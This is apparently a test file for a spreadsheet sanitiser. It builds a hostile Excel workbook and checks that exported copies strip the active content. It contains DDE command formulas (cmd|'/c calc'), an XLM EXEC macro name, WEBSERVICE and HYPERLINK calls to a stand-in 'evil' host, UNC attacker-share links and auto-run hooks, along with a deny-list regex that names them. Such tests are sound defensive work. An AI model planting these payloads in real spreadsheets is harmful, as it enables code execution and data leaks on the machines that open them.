import type { Field } from '@veridict/contract/model/field'
import { readSheet } from 'read-excel-file/node'
import { describe, expect, it } from 'vitest'
import { portalGuards } from '#limits.ts'
import { correctFile } from '#output/corrected-file.ts'
import { writeHighlightedFile } from '#output/highlighted-file.ts'
import { readNoteBoxes } from '#output/note-boxes.ts'
import { isPlainFormula } from '#output/plain-formula.ts'
import { validateTable } from '#validate-table.ts'
import { buildWorkbook, worksheet } from '../../test/build-workbook.ts'
import { checkWorkbook } from '../../test/check-workbook.ts'
import { readZip } from '../../test/read-zip.ts'
import { bytesSource, joined, testPlatform } from '../../test/test-platform.ts'

const TYPES = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const MICROSOFT = 'http://schemas.microsoft.com/office/2006/relationships'
const EVIL = 'http://evil.example'

const FIELDS: Field[] = ['Id', 'Amount', 'Day'].map((name, index) => ({
  name,
  description: '',
  category: '',
  required: false,
  rule: index === 1 ? { type: 'number', scale: 2 } : { type: 'text' },
}))

const request = (bytes: Uint8Array, chunk = 64 * 1024) => ({
  source: bytesSource(bytes),
  fileName: 'a.xlsx',
  fields: FIELDS,
  platform: testPlatform(chunk),
  limits: portalGuards,
})
const highlight = async (bytes: Uint8Array, chunk?: number) =>
  joined(writeHighlightedFile(request(bytes, chunk)))

async function correct(bytes: Uint8Array): Promise<Uint8Array> {
  const file = await correctFile({ ...request(bytes), causes: null })
  if (file.kind !== 'copy') throw new Error(file.kind)
  return joined(file.bytes())
}

const links = (...tags: string[]) =>
  '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  `${tags.join('')}</Relationships>`
const link = (id: string, type: string, target: string) =>
  `<Relationship Id="${id}" Type="${TYPES}/${type}" Target="${target}"/>`
const outside = (id: string, type: string, target = `${EVIL}/x`) =>
  `<Relationship Id="${id}" Type="${TYPES}/${type}" Target="${target}" TargetMode="External"/>`

const header = ['Id', 'Amount', 'Day'].map((name, at) => `<c r="${'ABC'[at]}1" t="str"><v>${name}</v></c>`)
const ROWS =
  `<row r="1">${header.join('')}</row>` +
  `<row r="2"><c r="A2" t="str"><f>HYPERLINK("${EVIL}","x")</f><v>shown</v></c>` +
  '<c r="B2" s="1" cm="1" vm="1"><f t="array" ref="B2:B3">1+1</f><v>2</v></c>' +
  '<c r="C2" t="str"><f>cmd|\'/c calc\'!A0</f><v>dde</v></c></row>' +
  '<row r="3"><c r="A3" t="str"><f t="shared" ref="A3:A4" si="0">' +
  `_xlfn.WEBSERVICE("${EVIL}")</f><v>web</v></c>` +
  '<c r="B3" t="str"><v>1,5</v></c><c r="C3"><extLst><ext uri="u"><f>1</f></ext></extLst></c></row>' +
  '<row r="4"><c r="A4" t="str"><f t="shared" si="0"/><v>again</v></c><c r="B4"><f>[1]Sheet!A1</f></c></row>'
const TAIL =
  '<sheetProtection sheet="1"/><mergeCells count="1"><mergeCell ref="E1:F1"/></mergeCells>' +
  '<conditionalFormatting sqref="A1"><cfRule type="expression" dxfId="0" priority="1">' +
  '<formula>AND($A1&lt;&gt;"",Lists!$A$1=1)</formula></cfRule></conditionalFormatting>' +
  '<conditionalFormatting sqref="B1"><cfRule type="expression" dxfId="0" priority="2">' +
  `<formula>WEBSERVICE("${EVIL}")=1</formula></cfRule></conditionalFormatting>` +
  '<conditionalFormatting sqref="C1"><cfRule type="colorScale" priority="3"><colorScale>' +
  '<cfvo type="num" val="[1]Sheet!$A$1"/><cfvo type="max"/></colorScale></cfRule></conditionalFormatting>' +
  '<dataValidations count="1"><dataValidation type="list" sqref="A1"><formula1>[1]Other!$A$1</formula1>' +
  '</dataValidation></dataValidations><hyperlinks><hyperlink ref="A1" r:id="rId1"/></hyperlinks>' +
  '<pageMargins left="1" right="1" top="1" bottom="1" header="1" footer="1"/>' +
  '<customProperties><customPr name="x" r:id="rId9"/></customProperties>' +
  '<drawing r:id="rId2"/><legacyDrawing r:id="rId3"/>' +
  '<oleObjects><oleObject progId="x" r:id="rId5"/></oleObjects>' +
  '<controls><control shapeId="1" r:id="rId6"/></controls><tableParts count="1"><tablePart r:id="rId7"/>' +
  '</tableParts><extLst><ext uri="u"><f>WEBSERVICE("x")</f></ext></extLst>'

const anchor = (content: string) =>
  '<xdr:oneCellAnchor><xdr:from/><xdr:ext cx="1" cy="1"/>' + `${content}<xdr:clientData/></xdr:oneCellAnchor>`
const picture = (name: string, id: string, extra = '') =>
  anchor(
    `<xdr:pic macro="[0]!Evil">` +
      `<xdr:nvPicPr><xdr:cNvPr id="2" name="${name}">${extra}</xdr:cNvPr></xdr:nvPicPr>` +
      `<xdr:blipFill><a:blip ${id}/></xdr:blipFill></xdr:pic>`,
  )

/** A workbook with all that a program could run or load. */
const HOSTILE = buildWorkbook({
  parts: {
    '_rels/.rels': links(
      link('rId1', 'officeDocument', 'xl/workbook.xml'),
      `<Relationship Id="rId2" Type="${MICROSOFT}/ui/extensibility" ` + 'Target="customUI/customUI.xml"/>',
      outside('rId3', 'attachedTemplate', '\\\\\\\\evil\\\\share\\\\x.xltm'),
      `<Relationship Id="rId4" Type="${TYPES}/extended-properties" Target="docProps/app.xml"/>`,
    ),
    'docProps/app.xml': `<Properties><HyperlinkBase>${EVIL}</HyperlinkBase></Properties>`,
    'customUI/customUI.xml': '<customUI onLoad="Evil"/>',
    '[Content_Types].xml':
      '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
      '<Default Extension="rels" ContentType="r"/><Default Extension="xml" ContentType="application/xml"/>' +
      '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>' +
      '<Default Extension="png" ContentType="image/png"/>' +
      '<Override PartName="/xl/workbook.xml" ' +
      'ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/></Types>',
    'xl/workbook.xml':
      `<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="${TYPES}">` +
      '<workbookPr codeName="ThisWorkbook"/><bookViews><workbookView activeTab="3"/></bookViews><sheets>' +
      '<sheet name="Macro" sheetId="9" state="hidden" r:id="rId9"/>' +
      `<sheet name="[${EVIL}/a.xlsx]Data" sheetId="8" r:id="rId9"/>` +
      '<sheet name="Data" sheetId="1" r:id="rId1"/>' +
      '<sheet name="Lists" sheetId="2" r:id="rId2"/></sheets>' +
      '<externalReferences><externalReference r:id="rId4"/></externalReferences><definedNames>' +
      '<definedName name="_xlnm.Print_Area" localSheetId="2">Data!$A$1:$C$9</definedName>' +
      '<definedName function="false" vbProcedure="false" name="_xlnm.Print_Titles" localSheetId="2">' +
      'Data!$1:$1</definedName>' +
      '<definedName name="evil">[1]Sheet!$A$1</definedName>' +
      '<definedName function="1" name="run">Data!$A$1</definedName>' +
      `<definedName name="named">'[${EVIL}/a.xlsx]Data'!$A$1</definedName>` +
      '<definedName name="Auto_Open">Data!$A$1</definedName>' +
      '<definedName name="dde">cmd|\'/c calc\'!A0</definedName>' +
      '<definedName name="old" xlm="1" function="1">EXEC("calc")</definedName></definedNames>' +
      '<calcPr calcId="1"/><pivotCaches><pivotCache cacheId="1" r:id="rId8"/></pivotCaches></workbook>',
    'xl/_rels/workbook.xml.rels': links(
      link('rId1', 'worksheet', 'worksheets/sheet1.xml'),
      link('rId2', 'worksheet', 'worksheets/sheet2.xml'),
      link('rId3', 'styles', 'styles.xml'),
      link('rId4', 'externalLink', 'externalLinks/externalLink1.xml'),
      link('rId5', 'connections', 'connections.xml'),
      link('rId6', 'calcChain', 'calcChain.xml'),
      link('rId7', 'sheetMetadata', 'metadata.xml'),
      link('rId8', 'pivotCacheDefinition', 'pivot.xml'),
      '<Relationship Id="rId9" Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" ' +
        'Target="macrosheets/sheet1.xml"/>',
      '<Relationship Id="rId10" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" ' +
        'Target="vbaProject.bin"/>',
    ),
    'xl/styles.xml':
      '<styleSheet><fonts count="1"><font/></fonts><fills count="2"><fill/><fill/></fills>' +
      '<borders count="1"><border/></borders>' +
      '<cellXfs count="2"><xf numFmtId="0"/><xf numFmtId="2"/></cellXfs>' +
      '<dxfs count="1"><dxf/></dxfs></styleSheet>',
    'xl/worksheets/sheet1.xml': worksheet(ROWS, TAIL).replace(
      '<sheetData>',
      '<sheetViews><sheetView tabSelected="1"><pivotSelection r:id="rId8"/></sheetView></sheetViews>' +
        '<cols><col min="1" max="1" width="30"/></cols><sheetData>',
    ),
    'xl/worksheets/_rels/sheet1.xml.rels': links(
      outside('rId1', 'hyperlink'),
      link('rId2', 'drawing', '../drawings/drawing1.xml'),
      link('rId3', 'vmlDrawing', '../drawings/vmlDrawing1.vml'),
      link('rId4', 'comments', '../comments1.xml'),
      link('rId5', 'oleObject', '../embeddings/oleObject1.bin'),
      link('rId6', 'control', '../activeX/activeX1.xml'),
      link('rId7', 'table', '../tables/table1.xml'),
      link('rId8', 'pivotTable', '../pivotTables/pivotTable1.xml'),
      outside('rId9', 'customProperty', 'file:///c:/x'),
    ),
    'xl/worksheets/sheet2.xml': worksheet(
      `<row r="1"><c r="A1"><f>WEBSERVICE("${EVIL}")</f><v>5</v></c></row>`,
      '<hyperlinks><hyperlink ref="A1" location="Data!A1"/></hyperlinks>',
    ),
    'xl/drawings/drawing1.xml':
      `<xdr:wsDr xmlns:xdr="x" xmlns:a="a" xmlns:r="${TYPES}">` +
      picture('Logo', 'r:embed="rId1"', '<a:hlinkClick r:id="rId2"/>') +
      picture('Remote', 'r:link="rId3"') +
      anchor('<xdr:graphicFrame macro=""><c:chart xmlns:c="c" r:id="rId4"/></xdr:graphicFrame>') +
      anchor('<xdr:sp macro="" textlink="[1]Sheet!A1"><xdr:txBody/></xdr:sp>') +
      '</xdr:wsDr>',
    'xl/drawings/_rels/drawing1.xml.rels': links(
      link('rId1', 'image', '../media/image1.png'),
      outside('rId2', 'hyperlink'),
      outside('rId3', 'image', '\\\\\\\\evil\\\\x.png'),
      link('rId4', 'chart', '../charts/chart1.xml'),
    ),
    'xl/media/image1.png': 'picture',
    'xl/charts/chart1.xml': '<chart/>',
    'xl/drawings/vmlDrawing1.vml':
      `<xml xmlns:v="urn:schemas-microsoft-com:vml" xmlns:o="o" xmlns:x="x"><v:shape id="a" href="${EVIL}">` +
      '<x:ClientData ObjectType="Note"><x:Row>1</x:Row><x:Column>2</x:Column></x:ClientData></v:shape>' +
      '<v:shape id="b"><x:ClientData ObjectType="Button"><x:FmlaMacro>Evil</x:FmlaMacro></x:ClientData>' +
      '</v:shape></xml>',
    'xl/comments1.xml':
      '<comments><authors><author>me</author></authors><commentList><comment ref="C2" authorId="0"><text>' +
      '<t>mine</t></text></comment></commentList></comments>',
    'xl/tables/table1.xml':
      '<table id="1" name="T" displayName="T" ref="A1:C4" tableType="queryTable" connectionId="1">' +
      '<tableColumns count="1"><tableColumn id="1" name="Id" queryTableFieldId="1">' +
      `<calculatedColumnFormula>WEBSERVICE("${EVIL}")</calculatedColumnFormula>` +
      '</tableColumn></tableColumns></table>',
    'xl/tables/_rels/table1.xml.rels': links(link('rId1', 'queryTable', '../queryTables/queryTable1.xml')),
    'xl/queryTables/queryTable1.xml': '<queryTable refreshOnLoad="1"/>',
    'xl/externalLinks/externalLink1.xml': '<externalLink><ddeLink ddeService="cmd"/></externalLink>',
    'xl/externalLinks/_rels/externalLink1.xml.rels': links(outside('rId1', 'externalLinkPath')),
    'xl/connections.xml': '<connections><connection refreshOnLoad="1"/></connections>',
    'xl/calcChain.xml': '<calcChain/>',
    'xl/metadata.xml': '<metadata/>',
    'xl/pivot.xml': '<pivotCacheDefinition refreshOnLoad="1"/>',
    'xl/pivotTables/pivotTable1.xml': '<pivotTableDefinition/>',
    'xl/macrosheets/sheet1.xml': '<xm:macrosheet/>',
    'xl/vbaProject.bin': 'macro',
    'xl/embeddings/oleObject1.bin': 'object',
    'xl/activeX/activeX1.xml': '<ax:ocx/>',
  },
})

const FORBIDDEN = new RegExp(
  String.raw`<f[ >/]|evil|External|vbaProject|macro(?!=)|WEBSERVICE|HYPERLINK|\[1\]|refreshOn|calcChain|` +
    'pivot|oleObject|hlink|activeX',
  'i',
)

describe.each([
  ['A Highlighted file', highlight],
  ['A corrected copy', correct],
] as const)('%s of a workbook with active content', (_, write) => {
  it('has none of it, and is a valid workbook', async () => {
    const copy = await write(HOSTILE)
    expect(checkWorkbook(copy)).toEqual([])
    const parts = readZip(copy)
    const found = [...parts].flatMap(([name, xml]) => {
      const match = FORBIDDEN.exec(
        name + xml.replace(/<comments.*<\/comments>|Left out of this copy[^<]*/gs, ''),
      )
      return match === null ? [] : [`${name}: ${match[0]}`]
    })
    expect(found).toEqual([])
    expect([...parts.keys()].filter((name) => !/Veridict/.test(name)).toSorted()).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/_rels/workbook.xml.rels',
      'xl/comments1.xml',
      'xl/drawings/_rels/drawing1.xml.rels',
      'xl/drawings/drawing1.xml',
      'xl/drawings/vmlDrawing1.vml',
      'xl/media/image1.png',
      'xl/styles.xml',
      'xl/tables/table1.xml',
      'xl/workbook.xml',
      'xl/worksheets/_rels/sheet1.xml.rels',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
    ])
    expect(parts.get('[Content_Types].xml')).toMatch(
      /PartName="\/xl\/workbook.xml" ContentType="application\/vnd.openxmlformats[^"]*sheet.main\+xml"/,
    )
  })

  it('keeps its look', async () => {
    const parts = readZip(await write(HOSTILE))
    const sheet = parts.get('xl/worksheets/sheet1.xml')!
    for (const kept of [
      '<col min="1" max="1" width="30"/>',
      '<mergeCell ref="E1:F1"/>',
      '<formula>AND($A1&lt;&gt;"",Lists!$A$1=1)</formula>',
      '<tablePart r:id="rId7"/>',
      '<c r="B2" s="1" cm="0" vm="0">',
    ])
      expect(sheet).toContain(kept)
    expect(parts.get('xl/drawings/drawing1.xml')!.match(/name="\w+"/g)).toEqual(['name="Logo"'])
    const book = parts.get('xl/workbook.xml')!
    expect(book).toContain(
      '<definedName name="_xlnm.Print_Area" localSheetId="0">Data!$A$1:$C$9</definedName>',
    )
    // As LibreOffice writes it.
    expect(book).toMatch(/name="_xlnm.Print_Titles" localSheetId="0">Data!\$1:\$1<\/definedName>/)
    expect(book.match(/<definedName /g)).toHaveLength(2)
    expect(book).toContain('<workbookView activeTab="1"/>')
  })

  it('is the same each time', async () => {
    expect(await write(HOSTILE)).toEqual(await write(HOSTILE))
  })

  it('says what was left out, and nothing if it is copied again', async () => {
    const said =
      'Left out of this copy, for safety: 7 formulas (the values are here); links to web pages and other ' +
      'files; macros; data connections; embedded objects and controls; names, input rules or conditional ' +
      'formats that call functions or other files; charts, pivot tables or other additions.'
    const parts = readZip(await write(HOSTILE))
    expect(parts.get('xl/worksheets/aboutVeridict.xml')).toContain(said)
    const again = readZip(await write(await write(HOSTILE)))
    expect([...again.values()].filter((xml) => xml.includes('Left out of this copy')).length).toBeLessThan(2)
  })
})

describe('The Highlighted file of a workbook with formulas', () => {
  it('has their results, as other programs read them', async () => {
    for (const chunk of [1, 7, 64 * 1024]) {
      const rows = await readSheet(Buffer.from(await highlight(HOSTILE, chunk)), 'Data')
      expect(rows.slice(0, 4).map((cells) => cells.slice(0, 3))).toEqual([
        ['Id', 'Amount', 'Day'],
        ['shown', 2, 'dde'],
        ['web', '1,5', null],
        ['again', null, null],
      ])
    }
  })

  it('has the errors of its source: a formula without a result is not an empty cell', async () => {
    const before = await validateTable(request(HOSTILE))
    const after = await validateTable(request(await highlight(HOSTILE)))
    expect(before).toMatchObject({ kind: 'rowErrors', errorRowCount: 2, cellErrorCount: 2 })
    expect(after).toMatchObject({ kind: 'rowErrors', errorRowCount: 2, cellErrorCount: 2 })
    for (const chunk of [1, 7, 64 * 1024])
      expect(readZip(await highlight(HOSTILE, chunk)).get('xl/worksheets/sheet1.xml')).toMatch(
        /<c t="e" r="B4" s="\d"><v>#N\/A<\/v><\/c>|<c s="\d" t="e" r="B4"><v>#N\/A<\/v><\/c>/,
      )
  })
})

describe('A drawing of notes', () => {
  const shape = (type: string, more: string) =>
    '<v:shape id="a" fillcolor="#d0e0ff">' +
    `<x:ClientData ObjectType="${type}"><x:Anchor>\n 1, 15, 0, 2,\n 9, 1, 9, 4</x:Anchor>` +
    `<x:Row>0</x:Row><x:Column>2</x:Column>${more}</x:ClientData></v:shape>`
  const boxes = (text: string, encoding?: BufferEncoding) =>
    readNoteBoxes(Buffer.from(`<xml xmlns:v="v">${text}</xml>`, encoding), testPlatform())
  const box = {
    row: 0,
    column: 2,
    text: '',
    anchor: '1, 15, 0, 2,\n 9, 1, 9, 4',
    color: '#d0e0ff',
    isVisible: false,
  }

  it('keeps the places and colors of its boxes, and which are always shown', () =>
    expect(boxes(shape('Note', '') + shape('Note', '<x:Visible/>'))).toEqual([
      box,
      { ...box, isVisible: true },
    ]))

  it('loses all else, also in an encoding that hides it', () => {
    expect(boxes(shape('Button', '') + '<v:shape id="b"><v:imagedata src="x"/></v:shape>')).toEqual([])
    expect(boxes(shape('Note', ''), 'utf16le')).toEqual([])
  })
})

describe('A formula only computes from cells of the workbook:', () => {
  const sheets = new Set(['data', "it's", '[book.xlsx]data', 'c:\\x\\book', 'cmd|/c calc'])
  const isPlain = (formula: string) => isPlainFormula(formula, (name) => sheets.has(name.toLowerCase()))
  it.for([
    '$A$1:B2',
    'Data!A1&"x""[1]"',
    "'It''s'!$A$1",
    'IF(AND(A1<>"",LEN(B2)>=2),1,0)',
    '1.5E3%',
    'name_1',
    '{1,2;3}',
  ])('yes: %s', (formula) => expect(isPlain(formula)).toBe(true))
  it.for([
    '[1]Sheet!A1',
    "'[Book.xlsx]Data'!A1",
    'Other!A1',
    "'C:\\x\\Book'!A1",
    "cmd|'/c calc'!A0",
    "'cmd|/c calc'!A0",
    '_x005B_1_x005D_Sheet_x0021_A1',
    'WEBSERVICE("x")',
    'webservice ("x")',
    '_xlfn.WEBSERVICE("x")',
    'HYPERLINK("x","y")',
    'INDIRECT("x")',
    'CALL("x")',
    'T[Column]',
    '"never closed',
    '1+'.repeat(5000),
  ])('no: %.40s', (formula) => expect(isPlain(formula)).toBe(false))
})
